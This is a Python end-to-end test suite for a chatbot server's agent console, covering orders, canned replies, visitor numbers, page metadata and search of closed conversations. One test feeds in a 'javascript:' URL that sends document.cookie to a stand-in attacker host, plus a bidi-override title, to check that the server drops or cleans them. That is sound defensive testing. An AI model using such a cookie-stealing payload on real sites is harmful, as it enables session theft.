#!/usr/bin/env python3
"""test_agent_commerce: what the agent console shows a commerce agent
(runtime/http/agent.c, docs/handoff.md). parley serves the barista and the
pizzeria, with an agency token and the barista's own.

Cases: a conversation's detail lists the shopper's orders (state, lines
with their options, totals, the payment link; never the page's token) and
the bot's canned replies in the shopper's locale; bot.json's canned replies
are checked at load with errors that name the place; the queue names a web
chat shopper by a visitor number (kept across handoffs) and the page they
are on (400 for a page that is not {url, title}; a url that is no absolute
http(s) URL drops the page, and the title loses control and bidi override
characters); closed and handed-back
conversations leave the queue for GET /v1/agent/closed, newest first,
paged, searched by shopper id, transcript text or order number, and
scoped by a brand's token; bad parameters -> 400. A search of closed
conversations runs on the store's read thread (held still by the test-only
POST /v1/test/reads): /v1/health/ready and the queue answer while it
waits, and a third search at once is told to come back (503)."""

import http.client
import json
import os
import select
import shutil
import subprocess
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from harness import (PARLEY, ROOT, Server, check, check_error, copy_default_bot, new_user, run_suite,  # noqa: E402
                     wait_until)
from commerce_helpers import PayLink, advance, link_of  # noqa: E402
from sse_client import Shopper  # noqa: E402

BOT = "barista"
ALL, BARISTA, PIZZA = "agency-" + os.urandom(4).hex(), "barista-" + os.urandom(4).hex(), "pizza-" + os.urandom(4).hex()
ENV = {"PARLEY_AGENT_TOKEN": ALL, "BARISTA_AGENT_TOKEN": BARISTA, "PIZZA_AGENT_TOKEN": PIZZA, "PARLEY_TEST_CLOCK": "1"}
HANDOFF = "Of course! I'm getting one of our team for you. They'll be with you shortly."


def bearer(token):
    return {"Authorization": "Bearer " + token}


def main(tap):
    srv = tap.watch(Server(bots=[ROOT, os.path.join(ROOT, "examples", "pizza")], env=ENV,
                           name="parley (agents of two brands)").start())

    def get(path, token=ALL):
        return srv.request("GET", path, headers=bearer(token))

    def act(channel, user, action, body):
        return srv.request("POST", "/v1/agent/conversations/%s/%s/%s/%s" % (BOT, channel, user, action), body,
                           headers=bearer(ALL))

    def detail(channel, user, token=ALL):
        r = get("/v1/agent/conversations/%s/%s/%s" % (BOT, channel, user), token)
        check.assertEqual(r.status, 200, r)
        return r.json

    def queue_row(channel, user):
        r = get("/v1/agent/conversations")
        check.assertEqual(r.status, 200, r)
        rows = [c for c in r.json["conversations"] if c["channel"] == channel and c["user"] == user]
        return rows[0] if rows else None

    def closed(query="", token=ALL):
        r = get("/v1/agent/closed" + query, token)
        check.assertEqual(r.status, 200, r)
        check.assertEqual(set(r.json), {"conversations", "next"}, r.json)
        return r.json

    def paid_order(user):
        """A REST shopper buys a small latte and pays; returns the order's number."""
        srv.say(BOT, user, "hi")
        srv.say(BOT, user, "a small latte")
        srv.say(BOT, user, payload="no")
        srv.say(BOT, user, payload="done")
        link = PayLink(link_of(srv.say(BOT, user, payload="pay"))["url"])
        link.pay(srv)
        return link

    # --- orders beside the cart -----------------------------------------------------------------

    def orders(run):
        user = new_user("buyer")
        link = paid_order(user)
        check.assertEqual(srv.say(BOT, user, "talk to a person")[-1]["text"], HANDOFF)
        d = detail("rest", user)
        check.assertIn("orders", d)
        o = d["orders"][0]
        check.assertEqual(o["id"], link.order_id, d["orders"])
        check.assertEqual(o["state"], "paid", o)
        check.assertNotIn("token", o, "the payment page's token stays with the shopper")
        check.assertEqual((o["currency"], o["total"]), ("EUR", o["subtotal"] - o["discount"]), o)
        line = o["lines"][0]
        check.assertEqual((line["sku"], line["qty"]), ("latte", 1), line)
        check.assertIn("Latte", line["title"])
        check.assertTrue(line["option_titles"], "the line's options (its size) by title: %r" % line)
        check.assertEqual(o["payment_url"], link.url, "the link the shopper was given")
        check.assertEqual(act("rest", user, "claim", {"agent": "Mia"}).status, 200)
        check.assertEqual(act("rest", user, "close", {"agent": "Mia"}).status, 200)

    tap.case("a conversation's detail lists the shopper's orders: state, lines with options, totals, link", orders)

    # --- canned replies ------------------------------------------------------------------------------

    def canned(run):
        en, ja = new_user("en"), new_user("ja")
        srv.say(BOT, en, "talk to a person")
        srv.say(BOT, ja, "人と話したい", locale="ja")
        mine = detail("rest", en)["canned_replies"]
        check.assertEqual([c["shortcut"] for c in mine], ["hello", "ready", "refund"], mine)
        check.assertTrue(all(c["text"] and c["title"] for c in mine), mine)
        theirs = detail("rest", ja)["canned_replies"]
        check.assertEqual([c["shortcut"] for c in theirs], ["hello", "ready", "refund"])
        check.assertIn("こんにちは", theirs[0]["text"], "the shopper's locale's list")
        pizza_user = new_user("pizza")
        srv.say("pizza", pizza_user, "hi")
        r = srv.request("GET", "/v1/agent/conversations/pizza/rest/" + pizza_user, headers=bearer(ALL))
        check.assertEqual(r.status, 200, r)
        check.assertEqual(r.json["canned_replies"], [], "a bot without canned replies has none")
        for u in (en, ja):
            check.assertEqual(act("rest", u, "claim", {"agent": "Mia"}).status, 200)
            check.assertEqual(act("rest", u, "close", {"agent": "Mia"}).status, 200)

    tap.case("canned replies: the bot's list in the shopper's locale (en, ja); none for a bot without", canned)

    def canned_checked(run):
        bad = [
            ({"en": [{"shortcut": "hi"}]}, r'handoff\.canned_replies\.en\[1\]\.text must be'),
            ({"en": [{"shortcut": "Hi There", "text": "Hello"}]}, r'handoff\.canned_replies\.en\[1\]\.shortcut must be'),
            ({"fr": [{"shortcut": "hi", "text": "Salut"}]}, r'handoff\.canned_replies\.fr: "fr" is not one of the bot\'s "locales"'),
            ([{"shortcut": "hi", "text": "a"}, {"shortcut": "hi", "text": "b"}],
             r'handoff\.canned_replies\[2\]\.shortcut "hi" is also the shortcut of \[1\]'),
            ({"en": "hello"}, r'handoff\.canned_replies\.en must be a list'),
            ("hello", r'handoff\.canned_replies must be a list'),
        ]
        folder = copy_default_bot()
        manifest_path = os.path.join(folder, "bot.json")
        manifest = json.load(open(manifest_path, encoding="utf-8"))
        for value, message in bad:
            manifest["handoff"] = {"canned_replies": value}
            with open(manifest_path, "w", encoding="utf-8") as f:
                json.dump(manifest, f)
            p = subprocess.run([PARLEY, "check", folder], capture_output=True, text=True, timeout=20)
            check.assertNotEqual(p.returncode, 0, p.stdout + p.stderr)
            check.assertRegex(p.stdout + p.stderr, r"bot\.json:1: " + message)
        manifest["handoff"] = {"canned_replies": [{"shortcut": "hi", "text": "Hello!"}]}
        with open(manifest_path, "w", encoding="utf-8") as f:
            json.dump(manifest, f)
        p = subprocess.run([PARLEY, "check", folder], capture_output=True, text=True, timeout=20)
        check.assertEqual(p.returncode, 0, p.stdout + p.stderr)
        shutil.rmtree(os.path.dirname(folder), ignore_errors=True)

    tap.case("bot.json's canned replies are checked at load: each mistake named with its place", canned_checked,
             runs=1)

    # --- readable names ------------------------------------------------------------------------------

    def visitors(run):
        a, b = Shopper(srv), Shopper(srv)
        for s in (a, b):
            s.connect()
        page = {"url": "https://shop.example/drinks/latte?ref=%d" % run, "title": "Latte – Bea's Coffee"}
        r = a.post({"text": "hi", "page": page})
        check.assertEqual(r.status, 202, r)
        a.turn(text="talk to a person")
        b.turn(text="talk to a person")
        ra, rb = queue_row("webchat", a.user), queue_row("webchat", b.user)
        check.assertIsInstance(ra["visitor"], int)
        check.assertGreater(ra["visitor"], 0)
        check.assertNotEqual(ra["visitor"], rb["visitor"], "each shopper their own number")
        check.assertEqual(ra["page"], page, "the page of the latest message that named one")
        check.assertIsNone(rb["page"])
        check.assertIsNone(ra["display_name"], "the web chat gives no name")
        newer = {"url": "https://shop.example/checkout", "title": "Checkout"}
        check.assertEqual(a.post({"text": "I'm at the checkout", "page": newer}).status, 202)
        wait_until(lambda: (queue_row("webchat", a.user) or {}).get("page") == newer,
                   what="the queue showing the newer page")
        # a page whose url is no http(s) URL is dropped; the message goes through
        said = "still here %d" % run
        r = a.post({"text": said, "page": {"url": "javascript:fetch('//evil.example/'+document.cookie)",
                                           "title": "Checkout\u202e\n"}})
        check.assertEqual(r.status, 202, r)
        wait_until(lambda: said in json.dumps(detail("webchat", a.user)["transcript"]), what="the message recorded")
        check.assertEqual(queue_row("webchat", a.user)["page"], newer, "the javascript: page was not kept")
        for url in ("//shop.example/x", "https://", "https:///path", "data:text/html,hi", "https://shop.example/a b"):
            check.assertEqual(a.post({"text": "hi", "page": {"url": url, "title": "t"}}).status, 202)
        # the title loses control characters and bidi overrides
        shown = {"url": "HTTPS://shop.example/pay", "title": "Pay\u202e\u2066 now\n\u0085"}
        check.assertEqual(a.post({"text": "paying", "page": shown}).status, 202)
        wait_until(lambda: (queue_row("webchat", a.user) or {}).get("page") ==
                   {"url": "HTTPS://shop.example/pay", "title": "Pay now"}, what="the page with its title cleaned")
        for bad in ({"url": "x" * 3000}, {"title": "no url"}, "https://shop.example/", {"url": 7}):
            check_error(a.post({"text": "hi", "page": bad}), 400, r'"page"')
        check.assertEqual(act("webchat", a.user, "claim", {"agent": "Mia"}).status, 200)
        check.assertEqual(act("webchat", a.user, "close", {"agent": "Mia"}).status, 200)
        check.assertIsNone(queue_row("webchat", a.user))
        a.turn(text="hello again")
        a.turn(text="talk to a person")
        check.assertEqual(queue_row("webchat", a.user)["visitor"], ra["visitor"], "the number stays the shopper's")
        for s in (a, b):
            check.assertEqual(act("webchat", s.user, "claim", {"agent": "Mia"}).status, 200)
            check.assertEqual(act("webchat", s.user, "close", {"agent": "Mia"}).status, 200)
            s.close()

    tap.case("the queue names a web chat shopper: a visitor number kept across handoffs and the page they are on",
             visitors)

    # --- closed conversations ------------------------------------------------------------------------

    def closed_search(run):
        word = "pistachio%d%s" % (run, os.urandom(3).hex())
        buyer, talker, pizza_user = new_user("closedbuyer"), new_user("closedtalker"), new_user("closedpizza")
        link = paid_order(buyer)
        srv.say(BOT, buyer, "talk to a person")
        srv.say(BOT, talker, "talk to a person")
        srv.say(BOT, talker, "do you have %s syrup?" % word)
        srv.say("pizza", pizza_user, "talk to a person")
        check.assertEqual(act("rest", buyer, "claim", {"agent": "Mia"}).status, 200)
        check.assertEqual(act("rest", buyer, "close", {"agent": "Mia"}).status, 200)
        advance(srv, 1)  # one closed after the other
        check.assertEqual(act("rest", talker, "claim", {"agent": "Leo"}).status, 200)
        check.assertEqual(act("rest", talker, "handback", {"agent": "Leo"}).status, 200)
        advance(srv, 1)
        r = srv.request("POST", "/v1/agent/conversations/pizza/rest/%s/claim" % pizza_user, {"agent": "Ada"},
                        headers=bearer(ALL))
        check.assertEqual(r.status, 200, r)
        r = srv.request("POST", "/v1/agent/conversations/pizza/rest/%s/close" % pizza_user, {"agent": "Ada"},
                        headers=bearer(ALL))
        check.assertEqual(r.status, 200, r)
        for u in (buyer, talker):
            check.assertIsNone(queue_row("rest", u), "a closed conversation leaves the queue")

        latest = closed("?limit=3")["conversations"]
        check.assertEqual([c["user"] for c in latest], [pizza_user, talker, buyer], "newest closed first")
        t = latest[1]
        check.assertEqual((t["bot"], t["channel"], t["how"], t["agent"], t["reason"]),
                          (BOT, "rest", "handback", "Leo", "asked for a person"), t)
        check.assertEqual(latest[2]["how"], "close")
        check.assertGreaterEqual(t["closed_at"], t["since"])
        check.assertIsInstance(t["visitor"], int)

        page1 = closed("?limit=2")
        check.assertEqual(len(page1["conversations"]), 2)
        check.assertEqual(page1["next"], 2)
        page2 = closed("?limit=2&offset=%d" % page1["next"])
        check.assertEqual(page2["conversations"][0]["user"], buyer, "the next page goes on where the first ended")

        found = closed("?q=" + word.upper())["conversations"]
        check.assertEqual([c["user"] for c in found], [talker], "found by the words of the transcript")
        found = closed("?q=" + buyer)["conversations"]
        check.assertEqual([c["user"] for c in found], [buyer], "found by the shopper's id")
        for q in ("%23" + str(link.order_id), str(link.order_id)):
            found = closed("?q=" + q)["conversations"]
            check.assertIn(buyer, [c["user"] for c in found], "found by the order's number (%s)" % q)
        check.assertEqual(closed("?q=nothing-says-this-" + word)["conversations"], [])

        mine = closed("?limit=100", token=BARISTA)["conversations"]
        check.assertNotIn(pizza_user, [c["user"] for c in mine], "a brand's token sees its own only")
        check.assertTrue(all(c["bot"] == BOT for c in mine))
        check.assertEqual(closed("?q=" + word, token=PIZZA)["conversations"], [])
        check.assertEqual([c["user"] for c in closed("?limit=1", token=PIZZA)["conversations"]], [pizza_user])

        # a closed conversation still opens, read-only: no handoff, its transcript and orders
        d = detail("rest", buyer, token=BARISTA)
        check.assertIsNone(d["handoff"])
        check.assertEqual(d["orders"][0]["id"], link.order_id)

    tap.case("GET /v1/agent/closed: closed and handed-back conversations, newest first, paged, searched by id, "
             "words and order number, scoped by the token", closed_search)

    def closed_bad(run):
        for q, why in (("?limit=0", r'"limit"'), ("?limit=101", r'"limit"'), ("?limit=x", r'"limit"'),
                       ("?offset=-1", r'"offset"'), ("?q=" + "a" * 201, r'"q"')):
            check_error(get("/v1/agent/closed" + q), 400, why)
        check_error(srv.request("GET", "/v1/agent/closed"), 401)
        r = srv.request("POST", "/v1/agent/closed", {}, headers=bearer(ALL))
        check_error(r, 405)
        check.assertEqual(r.headers.get("allow"), "GET")
        check.assertEqual(closed("?q=%25")["conversations"], [], "% is a character, not a wildcard")

    tap.case("GET /v1/agent/closed: bad limit, offset or q -> 400; no token -> 401; POST -> 405", closed_bad)

    def hold_reads(hold):
        r = srv.request("POST", "/v1/test/reads", {"hold": hold})
        check.assertEqual(r.status, 200, r)

    def start_search(q):
        """Sends GET /v1/agent/closed?q= and leaves its answer to be read."""
        conn = http.client.HTTPConnection("127.0.0.1", srv.port, timeout=30)
        conn.request("GET", "/v1/agent/closed?q=" + q, headers=bearer(ALL))
        return conn

    def answered(conn):
        readable, _, _ = select.select([conn.sock], [], [], 0)
        return bool(readable)

    def finish_search(conn):
        r = conn.getresponse()
        body = json.loads(r.read())
        conn.close()
        check.assertEqual(r.status, 200, body)
        return body

    def closed_off_the_loop(run):
        word = "hazelnut%d%s" % (run, os.urandom(3).hex())
        u = new_user("closedlong")
        srv.say(BOT, u, "talk to a person")
        srv.say(BOT, u, "one %s latte please" % word)
        check.assertEqual(act("rest", u, "close", {"agent": "Mia"}).status, 200)
        hold_reads(True)
        searches = []
        try:
            searches = [start_search(word), start_search(word.upper())]
            # the searches wait on the read thread; the server goes on answering
            check.assertEqual(srv.request("GET", "/v1/health/ready").status, 200)
            check.assertEqual(get("/v1/agent/conversations").status, 200)
            check.assertFalse(any(answered(c) for c in searches), "the searches wait on the read thread, not the loop")
            r = get("/v1/agent/closed?q=" + word)
            check_error(r, 503, "other searches")
            check.assertEqual(r.headers.get("retry-after"), "1")
        finally:
            hold_reads(False)
        for conn in searches:
            check.assertEqual([c["user"] for c in finish_search(conn)["conversations"]], [u])
        check.assertEqual([c["user"] for c in closed("?q=" + word)["conversations"]], [u], "a slot is free again")

    tap.case("GET /v1/agent/closed?q= runs on the store's read thread: ready and the queue answer meanwhile; "
             "a third search at once -> 503", closed_off_the_loop)

    def log_clean(run):
        errors = [line for line in srv.log_since(0) if " ERROR " in line]
        check.assertEqual(errors, [], "nothing above was an error of the server")

    tap.case("after all of this: no ERROR in the log", log_clean, runs=1)


if __name__ == "__main__":
    run_suite("e2e: the agent console's commerce side", main)
